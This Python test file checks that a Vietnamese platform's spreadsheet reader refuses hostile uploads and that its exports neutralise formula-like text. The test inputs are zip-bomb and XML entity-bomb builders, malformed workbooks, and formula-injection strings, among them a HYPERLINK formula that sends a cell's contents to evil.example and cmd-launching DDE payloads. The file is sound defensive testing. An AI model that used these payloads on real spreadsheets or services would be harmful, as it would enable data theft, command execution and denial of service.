"""Hostile uploads against the one spreadsheet reader (khuyenhoc/sheets): broken and fake .xlsx,
zip bombs (declared or real), XML entity bombs, huge rows and cells, wrong encodings, formula
cells. Each is a clear Vietnamese refusal of the file (SpreadsheetError) or rows read as plain
text, never a crash or a hang; and every file the platform writes neutralises text a
spreadsheet would take for a formula (= + - @)."""

from __future__ import annotations

import io
import re
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from khuyenhoc.sheets import (
    FILE_PROBLEMS,
    SpreadsheetError,
    error_report,
    export_rows,
    read_all,
    read_table,
    write_workbook,
)
from khuyenhoc.sheets import xlsx as xlsx_reader
from khuyenhoc.sheets.writing import save
from services.fund.documents import honour_roll_xlsx
from services.registration.directory.hamlets_sheet import COLUMNS
from tests.hostile_files import (
    LAUGHS,
    declared_sizes,
    good_xlsx,
    rezip,
    sheet_path,
    zip_of_something_else,
)

VIETNAMESE = re.compile(
    r"[àáảãạăắằẳẵặâấầẩẫậèéẻẽẹêếềểễệìíỉĩịòóỏõọôốồổỗộơớờởỡợùúủũụưứừửữựỳýỷỹỵđ]", re.I
)
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "  =1+1",
    "\t=1+1",
]


def refusal(data: bytes, name: str = "thon.xlsx", **limits) -> SpreadsheetError:
    with pytest.raises(SpreadsheetError) as caught:
        read_all(data, name, COLUMNS, **limits)
    error = caught.value
    assert VIETNAMESE.search(str(error)), str(error)
    return error


def test_a_good_file_reads():
    _, rows = read_all(good_xlsx(), "thon.xlsx", COLUMNS)
    assert [r.values["name"] for r in rows] == ["Thôn Pò Mỏ", "Khu phố 2"]


@pytest.mark.parametrize(
    ("data", "name", "key"),
    [
        (b"", "thon.xlsx", "empty_file"),
        (good_xlsx()[:2000], "thon.xlsx", "unreadable_file"),  # cut off mid-download
        (b"%PDF-1.7\n" + b"x" * 500, "thon.xlsx", "unreadable_file"),  # renamed PDF
        (b"\xd0\xcf\x11\xe0" + b"\x00" * 500, "thon.xlsx", "unsupported_format"),  # .xls
        (b"PK\x03\x04" + b"\x00" * 100, "thon.xlsx", "unreadable_file"),  # a zip header only
    ],
    ids=["empty", "truncated", "pdf", "xls", "zip-header-only"],
)
def test_broken_files_are_refused_with_a_reason(data, name, key):
    assert refusal(data, name).key == key


def test_a_zip_of_something_else_named_xlsx_is_refused():
    assert refusal(zip_of_something_else()).key == "unreadable_file"


def test_a_zip_bomb_is_refused_before_anything_is_inflated():
    """A member claiming gigabytes (a bomb's central directory) is refused from the sizes."""
    bomb = declared_sizes(good_xlsx(), sheet_path(good_xlsx()), 3_000_000_000)
    started = time.perf_counter()
    assert refusal(bomb).key == "too_large"
    print(f"\ndeclared 3 GB sheet refused in {time.perf_counter() - started:.3f}s")


def test_one_swollen_part_is_refused_even_below_the_total_cap():
    """Styles of 200 MB (a few hundred kB zipped) would be read whole: refused."""
    swollen = declared_sizes(good_xlsx(), "xl/styles.xml", 200_000_000)
    assert refusal(swollen).key == "too_large"


def test_a_real_compressed_bomb_is_refused_quickly():
    """Styles (a part read whole) really inflating to 130 MB, from a few hundred kB."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good_xlsx())) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            if info.filename != "xl/styles.xml":
                dst.writestr(info.filename, src.read(info), zipfile.ZIP_DEFLATED)
        swollen = zipfile.ZipInfo("xl/styles.xml")
        swollen.compress_type = zipfile.ZIP_DEFLATED
        with dst.open(swollen, "w", force_zip64=True) as member:
            member.write(src.read("xl/styles.xml")[:-20])
            block = b" " * (1 << 20)
            for _ in range(130):
                member.write(block)
    bomb = out.getvalue()
    assert len(bomb) < 1_000_000
    started = time.perf_counter()
    assert refusal(bomb).key == "too_large"
    took = time.perf_counter() - started
    print(f"\n{len(bomb):,}-byte file inflating to 130 MB refused in {took:.3f}s")


def test_a_member_lying_small_about_its_size_is_unreadable_not_a_hang():
    path = sheet_path(good_xlsx())
    lying = declared_sizes(good_xlsx(), path, 10)
    assert refusal(lying).key == "unreadable_file"


def test_an_xml_entity_bomb_in_the_styles_is_refused():
    """A billion laughs in a part read whole (the styles)."""

    def bomb(name, data):
        if name != "xl/styles.xml":
            return data
        data = data.replace(b"?>", b"?>" + LAUGHS, 1)
        return data.replace(b"<numFmts", b"<!-- &lol8; --><numFmts", 1).replace(
            b"</styleSheet>", b"<extLst>&lol8;</extLst></styleSheet>", 1
        )

    assert refusal(rezip(good_xlsx(), bomb)).key == "unreadable_file"


def test_a_sheet_entity_bomb_is_refused():
    path = sheet_path(good_xlsx())

    def bomb(name, data):
        if name != path:
            return data
        cell = b'<row r="9"><c r="B9" t="inlineStr"><is><t>&lol8;</t></is></c></row>'
        data = data.replace(b"?>", b"?>" + LAUGHS, 1)
        return data.replace(b"</sheetData>", cell + b"</sheetData>")

    assert refusal(rezip(good_xlsx(), bomb)).key == "unreadable_file"


def test_more_rows_than_the_cap_are_refused_while_streaming():
    many = [{"communeCode": "06184", "name": f"Thôn {n}"} for n in range(50)]
    error = refusal(good_xlsx(many), max_rows=10)
    assert error.key == "too_many_rows" and "10" in str(error)


def test_a_row_far_beyond_excels_last_column_is_refused():
    """Excel stops at column XFD (16,384): a row of cells past it is a crafted file."""
    path = sheet_path(good_xlsx())

    def wide(name, data):
        if name != path:
            return data
        cells = b"".join(
            b'<c r="%s9" t="inlineStr"><is><t>x</t></is></c>' % col for col in (b"A", b"XFE")
        )
        return data.replace(b"</sheetData>", b'<row r="9">' + cells + b"</row></sheetData>")

    assert refusal(rezip(good_xlsx(), wide)).key == "unreadable_file"


def test_a_row_past_excels_last_row_is_refused():
    path = sheet_path(good_xlsx())

    def far(name, data):
        if name != path:
            return data
        cell = b'<row r="2000000"><c r="A2000000" t="inlineStr"><is><t>x</t></is></c></row>'
        return data.replace(b"</sheetData>", cell + b"</sheetData>")

    assert refusal(rezip(good_xlsx(), far)).key == "unreadable_file"


def test_a_row_of_more_cells_than_excel_has_columns_is_refused():
    """Cells without references, 20,000 in one row: refused while parsing that row."""
    path = sheet_path(good_xlsx())

    def crowded(name, data):
        if name != path:
            return data
        cells = b'<c t="inlineStr"><is><t>x</t></is></c>' * 20_000
        return data.replace(b"</sheetData>", b'<row r="9">' + cells + b"</row></sheetData>")

    assert refusal(rezip(good_xlsx(), crowded)).key == "unreadable_file"


def test_a_huge_cell_is_a_row_problem_not_a_crash():
    rows = [{"communeCode": "06184", "name": "Thôn " + "A" * 2_000_000}]
    _, read = read_all(good_xlsx(rows), "thon.xlsx", COLUMNS)
    assert read[0].values["name"] is None
    assert ("Tên thôn, tổ dân phố", "too_long") in read[0].problems


def csv_bytes(encoding: str, bom: bytes = b"") -> bytes:
    text = "Mã xã,Tên thôn, tổ dân phố\r\n06184,Thôn Nà Nghiều\r\n06184,Khu Đông Quan\r\n"
    text = text.replace("Tên thôn, tổ dân phố", '"Tên thôn, tổ dân phố"')
    return bom + text.encode(encoding)


@pytest.mark.parametrize(
    "data",
    [csv_bytes("utf-8"), csv_bytes("utf-8", b"\xef\xbb\xbf"), csv_bytes("utf-16")],
    ids=["utf-8", "utf-8-bom", "utf-16-bom"],
)
def test_csv_in_unicode_encodings_reads(data):
    _, rows = read_all(data, "thon.csv", COLUMNS)
    assert [r.values["name"] for r in rows] == ["Thôn Nà Nghiều", "Khu Đông Quan"]


@pytest.mark.parametrize(
    ("encoding", "key"),
    [("cp1258", "bad_encoding"), ("utf-16-le", "bad_encoding"), ("latin-1", "bad_encoding")],
    ids=["windows-1258", "utf-16-without-bom", "latin-1"],
)
def test_csv_in_other_encodings_is_refused_with_a_reason(encoding, key):
    text = (
        "Mã xã,Tên thôn\r\n06184,Thôn Nà Nghiều\r\n"
        if encoding != "latin-1"
        else "Mã xã,Tên\r\n06184,Café\r\n"
    )
    assert refusal(text.encode(encoding, errors="replace"), "thon.csv").key == key


def test_formula_cells_are_read_as_their_text_never_evaluated():
    data = csv_bytes("utf-8").decode().splitlines()[0] + "\r\n"
    data += "".join(f'06184,"{text.replace(chr(34), chr(34) * 2)}"\r\n' for text in INJECTIONS)
    _, read = read_all(data.encode(), "thon.csv", COLUMNS)
    assert [r.values["name"] for r in read] == [t.strip() for t in INJECTIONS]
    book = Workbook()
    book.active.append(["Mã xã", "Tên thôn"])
    for text in INJECTIONS[:2]:
        book.active.append(["06184", text])  # openpyxl stores these as formulas, no value
    _, from_xlsx = read_all(save(book), "thon.xlsx", COLUMNS)
    assert [r.values["name"] for r in from_xlsx] == [None, None]
    assert all(p[1] == "formula_without_value" for r in from_xlsx for p in r.problems)


def formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@\t")
    ]


def test_files_the_platform_writes_carry_no_formula_from_data():
    exported = export_rows("DANH SÁCH", [("name", "Họ và tên")], [[t] for t in INJECTIONS])
    report = error_report("LỖI", [(4, t, t) for t in INJECTIONS])
    template = write_workbook(
        "THÔN", COLUMNS, rows=[{"communeCode": t, "name": t} for t in INJECTIONS]
    )
    roll = honour_roll_xlsx(
        {
            "unitName": "Xã Hợp Thành",
            "year": 2024,
            "others": {"donors": 0, "count": 0, "total": 0},
            "total": 7000,
            "donors": [
                {"rank": n, "name": t, "kind": "PERSON", "count": 1, "total": 1000}
                for n, t in enumerate(INJECTIONS, start=1)
            ],
        }
    )
    for data in (exported, report, template, roll):
        assert [f for f in formulas(data) if "Hướng dẫn" not in f] == []


def test_every_refusal_reason_is_vietnamese():
    assert all(VIETNAMESE.search(text) for text in FILE_PROBLEMS.values())


def test_the_reader_refuses_before_reading_a_member_whole():
    """The caps are per part, so no single part (shared strings, styles) is read whole past
    the cap; they are constants of the reader."""
    assert xlsx_reader.MAX_UNCOMPRESSED <= 512 * 1024 * 1024
    assert xlsx_reader.MAX_PART <= xlsx_reader.MAX_UNCOMPRESSED
    assert read_table(good_xlsx(), "thon.xlsx", COLUMNS)[0] is not None
